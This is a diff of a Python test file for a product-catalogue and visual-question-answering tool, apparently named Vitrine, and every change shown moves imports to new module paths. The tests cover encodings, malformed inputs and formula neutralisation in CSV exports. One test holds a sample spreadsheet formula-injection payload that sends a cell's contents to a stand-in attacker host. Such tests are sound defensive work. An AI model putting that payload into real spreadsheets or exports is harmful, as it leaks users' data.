@@ -29,7 +29,7 @@ def _png(path: Path) -> Path:
 
 # ---- text in the encodings stores use ------------------------------------------------------------------------
 def test_a_cp1252_catalog_csv_adds_with_its_accents(tmp_path, caplog):
-    from engine.catalog_csv import read_products_csv
+    from engine.catalog.products_csv import read_products_csv
     _png(tmp_path / "a.png")
     text = "id;imagem;nome;cor\nP1;a.png;Calça jeans;azul-marinho\n"
     (tmp_path / "produtos.csv").write_bytes(text.encode("cp1252"))
@@ -44,7 +44,7 @@ def test_a_cp1252_catalog_csv_adds_with_its_accents(tmp_path, caplog):
 
 
 def test_a_cp1252_styles_csv_and_deepfashion_labels_build(tmp_path):
-    from export.catalogs import read_catalog
+    from export.datasets.catalogs import read_catalog
     (tmp_path / "images").mkdir()
     _png(tmp_path / "images" / "7.jpg")
     styles = ("id,gender,masterCategory,subCategory,articleType,baseColour,season,year,usage,productDisplayName\n"
@@ -56,9 +56,9 @@ def test_a_cp1252_styles_csv_and_deepfashion_labels_build(tmp_path):
 
 @pytest.mark.parametrize("layout", ["catalog", "styles", "labels", "jsonl", "generic"])
 def test_bytes_no_encoding_reads_are_one_line_with_the_line_number(tmp_path, layout):
-    from engine.catalog_csv import read_products_csv
-    from engine.qa_set import read_set
-    from export.catalogs import read_catalog
+    from engine.catalog.products_csv import read_products_csv
+    from engine.evaluation.qa_set import read_set
+    from export.datasets.catalogs import read_catalog
     good = {"catalog": b"id,image\nP1,a.png\n", "styles": b"id,articleType,baseColour\n1,Shirts,Red\n",
             "labels": b"a.jpg 1 2 3\nb.jpg 1 2 3\n", "jsonl": b'{"image": "a.png", "question": "q", "answers": ["a"]}\n' * 2,
             "generic": b"image,colour\na.png,red\n"}[layout]
@@ -89,7 +89,7 @@ def test_the_line_named_is_where_the_file_stops_reading(encoding):
 
 
 def test_a_cp1252_question_set_and_mix_file_read(tmp_path):
-    from engine.qa_set import read_set
+    from engine.evaluation.qa_set import read_set
     line = {"image": "a.png", "question": "Qual é a cor da calça?", "answers": ["azul"], "lang": "pt"}
     (tmp_path / "mix.jsonl").write_bytes((json.dumps(line, ensure_ascii=False) + "\n").encode("cp1252"))
     assert read_set(tmp_path / "mix.jsonl").rows[0].question == "Qual é a cor da calça?"
@@ -104,7 +104,7 @@ def test_a_cp1252_question_set_and_mix_file_read(tmp_path):
     ("[" * 5000 + "]" * 5000, "nests"),
 ])
 def test_jsonl_lines_of_the_wrong_shape_are_one_line(tmp_path, line, needle):
-    from engine.qa_set import read_set
+    from engine.evaluation.qa_set import read_set
     first = '{"image": "a.png", "question": "q", "answers": ["x"]}'
     (tmp_path / "s.jsonl").write_text(first + "\n" + line + "\n", encoding="utf-8")
     with pytest.raises(VitrineError) as e:
@@ -116,7 +116,7 @@ def test_parquet_of_the_wrong_shape_is_one_line(tmp_path):
     import pyarrow as pa
     import pyarrow.parquet as pq
 
-    from engine.qa_set import read_set
+    from engine.evaluation.qa_set import read_set
     path = tmp_path / "x.parquet"
     pq.write_table(pa.Table.from_pylist([{"image": {"bytes": b"\x89PNG", "path": "a"}, "qa": ["what?", "this"]}]),
                    path)
@@ -128,7 +128,7 @@ def test_parquet_of_the_wrong_shape_is_one_line(tmp_path):
 
 
 def test_run_files_of_the_wrong_shape_are_one_line(tmp_path):
-    from export.finetune import KIND, RUN_FILE, read_run
+    from export.training.finetune import KIND, RUN_FILE, read_run
     run = tmp_path / "run"
     run.mkdir()
     (run / RUN_FILE).write_text(json.dumps({"kind": KIND, "base": "b", "family": "f", "data": "d",
@@ -148,7 +148,7 @@ def test_arguments_that_are_not_utf8_are_one_line():
 
 # ---- the store's own schema, templates and questions --------------------------------------------------------
 def _schema(change) -> dict:
-    from engine.describe import ASSETS, SCHEMA_NAME
+    from engine.runtime.describe import ASSETS, SCHEMA_NAME
     schema = json.loads((ASSETS / SCHEMA_NAME).read_text(encoding="utf-8"))
     change(schema["properties"])
     return schema
@@ -162,7 +162,7 @@ def _schema(change) -> dict:
     (lambda p: p["colours"].__setitem__("maxItems", 500), ["properties.colours", "maxItems"]),
 ])
 def test_a_store_schema_of_the_wrong_types_is_one_line(vitrine_home, change, needles):
-    from engine.describe import AttributeSchema
+    from engine.runtime.describe import AttributeSchema
     vitrine_home.mkdir(parents=True)
     (vitrine_home / "attributes.schema.json").write_text(json.dumps(_schema(change)), encoding="utf-8")
     with pytest.raises(VitrineError) as e:
@@ -174,7 +174,7 @@ def test_a_store_schema_of_the_wrong_types_is_one_line(vitrine_home, change, nee
 
 
 def test_a_template_naming_a_missing_field_is_one_line(vitrine_home):
-    from engine.describe import load_templates
+    from engine.runtime.describe import load_templates
     vitrine_home.mkdir(parents=True)
     (vitrine_home / "descriptions.json").write_text(json.dumps({"default": ["{Noun} {colours}.",
                                                                             "Feito de {material}."]}))
@@ -219,9 +219,9 @@ def test_broken_prompts_fall_back_to_the_bundled_ones_with_a_warning(vitrine_hom
 
 # ---- exports a spreadsheet opens ---------------------------------------------------------------------------------
 def test_history_csv_export_neutralises_formulas(tmp_path):
-    from engine.answer import Answer, Timings
-    from engine.frames import Frame
-    from engine.history import History
+    from engine.media.frames import Frame
+    from engine.runtime.answer import Answer, Timings
+    from engine.runtime.history import History
     h = History(tmp_path / "h.sqlite3")
     frame = Frame(np.full((40, 60, 3), 9, np.uint8), "/videos/loja.mp4", index=1, timestamp=0.04)
     evil = '=HYPERLINK("http://evil.example/?x="&A1,"clique")'
@@ -235,8 +235,8 @@ def test_history_csv_export_neutralises_formulas(tmp_path):
 
 
 def test_eval_answers_csv_neutralises_formulas(tmp_path):
-    from engine.eval_report import _write_csv
-    from engine.evaluate import Record
+    from engine.evaluation.evaluate import Record
+    from engine.evaluation.report import _write_csv
     rec = Record(model="m", row="1", attribute="colour", lang="pt", question="=1+1", answers=["azul"],
                  prediction='=HYPERLINK("http://x")', scores={"vqa": 0.0, "exact": 0.0, "contains": 0.0, "f1": 0.0,
                                                           "levenshtein": 3, "anls": 0.0, "cosine": -0.25})
@@ -256,7 +256,7 @@ def test_a_full_disk_during_a_checkpoint_is_the_documented_line(tmp_path, monkey
     import torch
 
     import engine.files
-    from export import finetune
+    from export.training import finetune
     model = torch.nn.Linear(4, 4)
     optimizer = torch.optim.AdamW(model.parameters())
     model(torch.ones(1, 4)).sum().backward()
@@ -299,7 +299,7 @@ def test_a_hub_url_with_control_characters_is_one_line():
                                             ({"type": "array", "minItems": -1}, "minItems")])
 def test_the_decoder_refuses_counts_that_are_not_whole_numbers(schema, needle):
     """What a client's response_format may send: one line, not a ValueError from int()."""
-    from engine.constrained import compile_schema
+    from engine.runtime.constrained import compile_schema
     with pytest.raises(VitrineError, match=f"{needle}.*whole number"):
         compile_schema(schema)
     assert compile_schema({"type": "string", "maxLength": 10.0}).max_length == 10
